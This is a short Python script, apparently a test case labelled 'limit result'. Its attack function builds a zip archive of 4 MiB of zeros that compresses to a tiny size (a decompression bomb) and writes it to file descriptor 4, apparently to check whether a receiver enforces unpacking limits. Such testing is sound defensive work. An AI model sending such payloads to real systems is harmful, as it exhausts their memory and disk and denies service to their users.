# outcome: limit result
"""Sends an archive that unpacks to a thousand times its size."""

import io
import os
import zipfile


def attack(target):
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("weights", bytes(1 << 22))
    os.write(4, memory.getvalue())
    return True
